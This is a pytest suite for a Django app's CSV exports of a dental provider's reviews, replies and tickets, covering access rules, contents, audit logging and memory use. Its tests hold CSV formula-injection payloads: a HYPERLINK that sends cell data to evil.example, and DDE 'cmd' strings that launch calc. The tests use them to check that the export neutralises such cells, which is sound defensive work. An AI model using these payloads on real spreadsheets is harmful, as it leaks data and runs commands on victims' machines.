"""CSV exports of a provider's reviews, replies and tickets: who may download them (owners and
managers; other members 403, everyone else 404), what each file holds and leaves out, that no
cell can run as a spreadsheet formula, that every download is recorded, and that queries and
memory stay flat however many rows there are."""

import csv
import datetime as dt
import io
import tracemalloc

import pytest
from django.contrib.auth.hashers import make_password
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from accounts.models import User
from responses.exports import REPLY_COLUMNS, REVIEW_COLUMNS, TICKET_COLUMNS
from responses.models import BusinessEvent, Reply, Role
from reviews.models import Review
from tests.factories import (
    MembershipFactory,
    ProviderFactory,
    ReviewFactory,
    TicketFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

KINDS = ("reviews", "replies", "tickets")
HEADERS = {"reviews": REVIEW_COLUMNS, "replies": REPLY_COLUMNS, "tickets": TICKET_COLUMNS}
UTC = dt.UTC
# Summer: Europe/London is UTC+1, so a UTC 09:30 is written as 10:30 local time.
JULY_1 = dt.datetime(2026, 7, 1, 9, 30, tzinfo=UTC)


@pytest.fixture
def provider():
    return ProviderFactory(name="Riverside Dental", slug="riverside-dental")


@pytest.fixture
def other_provider():
    return ProviderFactory(name="Hillside Dental", slug="hillside-dental")


def _member(provider, role):
    return MembershipFactory(provider=provider, role=role).user


@pytest.fixture
def owner(provider):
    return _member(provider, Role.OWNER)


def _as(user) -> Client:
    client = Client()
    if user is not None:
        client.force_login(user)
    return client


def _url(provider, kind):
    return reverse("responses:export", kwargs={"slug": provider.slug, "kind": kind})


def _download(user, provider, kind):
    return _as(user).get(_url(provider, kind))


def _parse(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


def _published_review(provider, *, published_at=JULY_1, **kwargs):
    return ReviewFactory(provider=provider, status="published", published_at=published_at, **kwargs)


def _reply(review, *, status="published", body="Thank you, we have changed the rota.", **kwargs):
    kwargs.setdefault("responder_title", "Practice manager")
    return Reply.objects.create(
        review=review,
        provider=review.provider,
        responder_name="Olive Owner",
        body=body,
        status=status,
        **kwargs,
    )


# --- who may download ------------------------------------------------------------------------
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("role", [Role.OWNER, Role.MANAGER])
def test_owners_and_managers_get_a_csv_file_that_is_not_cached(provider, role, kind):
    response = _download(_member(provider, role), provider, kind)
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "no-store" in response["Cache-Control"]
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="riverside-dental-{kind}-{today}.csv"'
    )
    assert _parse(response) == [HEADERS[kind]]


@pytest.mark.parametrize("kind", KINDS)
def test_responders_are_refused_and_nothing_is_recorded(provider, kind):
    _published_review(provider)
    response = _download(_member(provider, Role.RESPONDER), provider, kind)
    assert response.status_code == 403
    assert not BusinessEvent.objects.filter(kind="data_exported").exists()


@pytest.mark.parametrize("kind", KINDS)
def test_anyone_outside_the_business_gets_404(provider, other_provider, customer, kind):
    _published_review(provider)
    for outsider in (_member(other_provider, Role.OWNER), customer):
        assert _download(outsider, provider, kind).status_code == 404
    assert not BusinessEvent.objects.filter(kind="data_exported").exists()


@pytest.mark.parametrize("kind", KINDS)
def test_anonymous_visitors_are_sent_to_sign_in(client, provider, kind):
    response = client.get(_url(provider, kind))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("account_login"))


@pytest.mark.parametrize("kind", ["members", "emails", "reviews-all", "events"])
def test_an_unknown_kind_is_404(provider, owner, kind):
    assert _download(owner, provider, kind).status_code == 404
    assert not BusinessEvent.objects.filter(kind="data_exported").exists()


@pytest.mark.parametrize("kind", KINDS)
def test_each_download_is_recorded_with_who_made_it(provider, owner, kind):
    _published_review(provider)
    response = _download(owner, provider, kind)
    assert response.status_code == 200
    event = BusinessEvent.objects.get(kind="data_exported")
    assert (event.provider, event.actor, event.detail) == (provider, owner, {"export": kind})


def test_the_page_lists_the_downloads_for_owners_and_managers(provider, owner):
    manager = _member(provider, Role.MANAGER)
    for user in (owner, manager):
        response = _as(user).get(reverse("responses:exports", kwargs={"slug": provider.slug}))
        assert response.status_code == 200
        page = response.content.decode()
        for kind in KINDS:
            assert f'href="{_url(provider, kind)}"' in page
        assert "personal data" in page
    assert not BusinessEvent.objects.filter(kind="data_exported").exists()


def test_the_page_shows_responders_what_exists_without_the_links(provider):
    response = _as(_member(provider, Role.RESPONDER)).get(
        reverse("responses:exports", kwargs={"slug": provider.slug})
    )
    assert response.status_code == 200
    page = response.content.decode()
    assert "/exports/reviews.csv" not in page
    assert "Only owners and managers can download these files." in page


def test_the_page_is_404_outside_the_business_and_asks_visitors_to_sign_in(
    client, provider, other_provider, customer
):
    url = reverse("responses:exports", kwargs={"slug": provider.slug})
    assert _as(_member(other_provider, Role.OWNER)).get(url).status_code == 404
    assert _as(customer).get(url).status_code == 404
    assert client.get(url)["Location"].startswith(reverse("account_login"))


def test_the_dashboard_links_to_the_exports(provider, owner):
    response = _as(owner).get(reverse("responses:inbox", kwargs={"slug": provider.slug}))
    assert reverse("responses:exports", kwargs={"slug": provider.slug}) in response.content.decode()


# --- what each file holds --------------------------------------------------------------------
@pytest.fixture
def history(provider, other_provider, moderator):
    """A provider's reviews, replies and tickets in assorted states, and a neighbour's."""
    reviewer = UserFactory(display_name="Casey Reviewer", email="casey@example.com")
    answered = _published_review(
        provider,
        author=reviewer,
        rating=2,
        title="Long wait",
        body="Forty minutes past my appointment time.",
        visit_month=dt.date(2026, 6, 1),
        source="invited",
        would_recommend=False,
        helpful_count=3,
    )
    erased = _published_review(
        provider,
        author=None,
        rating=5,
        title="Lovely",
        body="Kind and quick.",
        visit_month=dt.date(2026, 5, 1),
        published_at=JULY_1 + dt.timedelta(days=1),
    )
    not_shown = [
        ReviewFactory(provider=provider, status=status, title=f"Not shown {status}")
        for status in ("pending", "rejected", "withdrawn", "removed")
    ]
    neighbours = _published_review(other_provider, title="Next door")

    _reply(
        answered,
        submitted_at=JULY_1 + dt.timedelta(hours=2),
        published_at=JULY_1 + dt.timedelta(hours=5),
    )
    _reply(erased, status="pending", body="Thank you!", submitted_at=JULY_1 + dt.timedelta(days=2))
    _reply(not_shown[-1], body="Reply to a review since removed")
    _reply(neighbours, body="Reply next door")

    ticket = TicketFactory(
        provider=provider,
        customer=reviewer,
        review=answered,
        source="low_rating",
        subject="Long wait",
        status="closed",
        created_at=JULY_1,
        first_responded_at=JULY_1 + dt.timedelta(hours=3),
        resolved_at=JULY_1 + dt.timedelta(days=2),
        closed_at=JULY_1 + dt.timedelta(days=3),
        confirmed_by_customer=True,
        put_right="yes",
        change_made="A second receptionist on Monday mornings.",
    )
    private = TicketFactory(
        provider=provider,
        customer=None,
        subject="Billing mistake",
        status="escalated",
        created_at=JULY_1 + dt.timedelta(days=5),
        escalated_at=JULY_1 + dt.timedelta(days=8),
    )
    TicketFactory(provider=other_provider, subject="Next door's complaint")
    return {"answered": answered, "erased": erased, "ticket": ticket, "private": private}


def test_reviews_file_holds_each_published_review_once(provider, owner, history):
    answered, erased = history["answered"], history["erased"]
    assert _parse(_download(owner, provider, "reviews"))[1:] == [
        [
            str(answered.pk),
            "2026-07-01 10:30:00",
            "Casey Reviewer",
            "2",
            "Long wait",
            "Forty minutes past my appointment time.",
            "2026-06",
            "invited",
            "no",
            "3",
            "published",
            "2026-07-01 15:30:00",
            "yes",
        ],
        [
            str(erased.pk),
            "2026-07-02 10:30:00",
            "Former member",
            "5",
            "Lovely",
            "Kind and quick.",
            "2026-05",
            "organic",
            "",
            "0",
            "pending",
            "",
            "no",
        ],
    ]


def test_replies_file_holds_the_replies_to_published_reviews(provider, owner, history):
    assert _parse(_download(owner, provider, "replies"))[1:] == [
        [
            str(history["answered"].pk),
            "Olive Owner",
            "Practice manager",
            "published",
            "Thank you, we have changed the rota.",
            "2026-07-01 12:30:00",
            "2026-07-01 15:30:00",
        ],
        [
            str(history["erased"].pk),
            "Olive Owner",
            "Practice manager",
            "pending",
            "Thank you!",
            "2026-07-03 10:30:00",
            "",
        ],
    ]


def test_tickets_file_holds_every_ticket_of_the_provider(provider, owner, history):
    ticket, private = history["ticket"], history["private"]
    assert _parse(_download(owner, provider, "tickets"))[1:] == [
        [
            str(ticket.pk),
            "2026-07-01 10:30:00",
            "low_rating",
            "Long wait",
            "closed",
            "2026-07-03 10:30:00",
            "2026-07-01 13:30:00",
            "2026-07-15 10:30:00",
            "2026-07-03 10:30:00",
            "2026-07-04 10:30:00",
            "",
            "yes",
            "yes",
            "A second receptionist on Monday mornings.",
            "Casey Reviewer",
            str(history["answered"].pk),
        ],
        [
            str(private.pk),
            "2026-07-06 10:30:00",
            "private",
            "Billing mistake",
            "escalated",
            "2026-07-08 10:30:00",
            "",
            "2026-07-20 10:30:00",
            "",
            "",
            "2026-07-09 10:30:00",
            "no",
            "",
            "",
            "Former member",
            "",
        ],
    ]


@pytest.mark.parametrize("kind", KINDS)
def test_no_file_holds_an_email_address(provider, owner, history, kind):
    text = b"".join(_download(owner, provider, kind).streaming_content).decode()
    assert "@" not in text
    for elsewhere in ("Next door", "Not shown", "since removed"):
        assert elsewhere not in text


# --- spreadsheet formulas --------------------------------------------------------------------
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_cells_that_a_spreadsheet_would_run_are_neutralised(provider, owner, formula):
    review = _published_review(provider, title=formula, body=formula)
    _reply(review, body=formula, responder_title=formula)
    TicketFactory(provider=provider, subject=formula, change_made=formula)
    cells = {
        "reviews": lambda row: [row[4], row[5]],
        "replies": lambda row: [row[2], row[4]],
        "tickets": lambda row: [row[3], row[13]],
    }
    for kind, pick in cells.items():
        rows = _parse(_download(owner, provider, kind))
        assert len(rows) == 2
        assert pick(rows[1]) == ["'" + formula] * 2, kind


def test_a_reviewer_name_that_looks_like_a_formula_is_neutralised(provider, owner):
    _published_review(provider, author=UserFactory(display_name="=cmd|' /C calc'!A0"))
    [_header, row] = _parse(_download(owner, provider, "reviews"))
    assert row[2] == "'=cmd|' /C calc'!A0"


# --- cost ------------------------------------------------------------------------------------
def _rows_of_each_kind(provider, n):
    for _ in range(n):
        review = _published_review(provider)
        _reply(review)
        TicketFactory(provider=provider, review=review, customer=review.author)


@pytest.mark.parametrize("kind", KINDS)
def test_a_download_takes_the_same_few_queries_for_2_or_50_rows(
    provider, owner, kind, django_assert_max_num_queries
):
    client = _as(owner)
    counts = []
    for n in (2, 48):  # 2 rows, then 50
        _rows_of_each_kind(provider, n)
        # the user, the membership, the role check, the audit row (in a savepoint), the rows
        with django_assert_max_num_queries(7) as captured:
            rows = _parse(client.get(_url(provider, kind)))
        assert len(rows) == 1 + (2 if n == 2 else 50)
        counts.append(len(captured))
    assert counts[0] == counts[1]


ROWS = 100_000
BATCH = 5_000
BODY = (
    "The appointment started on time, the dentist explained each step before doing it and "
    "the receptionist rang the next day to check that the numbness had worn off. "
)
# Measured once (SQLite, Python 3.13): holding these 100,000 rows as the query's result list,
# as iterating the queryset without .iterator() does, peaks at 83 MB of traced allocations;
# the formatted rows as a list, 63 MB; joining the 24 MB of CSV into one bytes object, 59 MB.
# Streaming them peaks at 2.5-2.8 MB, the same for 20,000 rows as for 100,000 (one chunk of
# 2,000 rows plus the response machinery). 20 MB leaves room for other drivers and Python
# versions, and still fails if the rows are ever gathered in one place.
MEMORY_BOUND = 20 * 1024 * 1024


def _bulk_reviews(provider, n):
    """n published reviews by n different customers (one live review per customer and provider
    per 12 months is a database rule on PostgreSQL), written straight to the tables."""
    password = make_password(None)  # unusable: these accounts never sign in
    now = timezone.now()
    for start in range(0, n, BATCH):
        users = User.objects.bulk_create(
            User(email=f"bulk{i}@example.com", display_name=f"Customer {i}", password=password)
            for i in range(start, min(start + BATCH, n))
        )
        Review.objects.bulk_create(
            Review(
                provider=provider,
                author_id=user.pk,
                rating=1 + i % 5,
                title=f"Visit number {i}",
                body=BODY,
                visit_month=dt.date(2026, 1 + i % 12, 1),
                status="published",
                source=("organic", "invited")[i % 2],
                submitted_at=now,
                published_at=now,
            )
            for i, user in enumerate(users, start=start)
        )


def test_a_download_of_100000_rows_streams_in_flat_memory(provider, owner):
    _bulk_reviews(provider, ROWS)
    client = _as(owner)
    # The first request of a process imports and caches ~8 MB (templates, translations) that
    # have nothing to do with the number of rows; make it outside the measurement.
    assert client.get(_url(provider, "tickets")).status_code == 200
    tracemalloc.start()
    try:
        response = client.get(_url(provider, "reviews"))
        lines, first, last = 0, None, None
        for chunk in response.streaming_content:  # one CSV line per chunk
            lines += 1
            if lines == 2:
                first = chunk
            last = chunk
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert response.status_code == 200
    assert lines == ROWS + 1
    assert b"Visit number 0," in first and b"Visit number 99999," in last
    assert peak < MEMORY_BOUND, f"peak {peak / 2**20:.1f} MB"
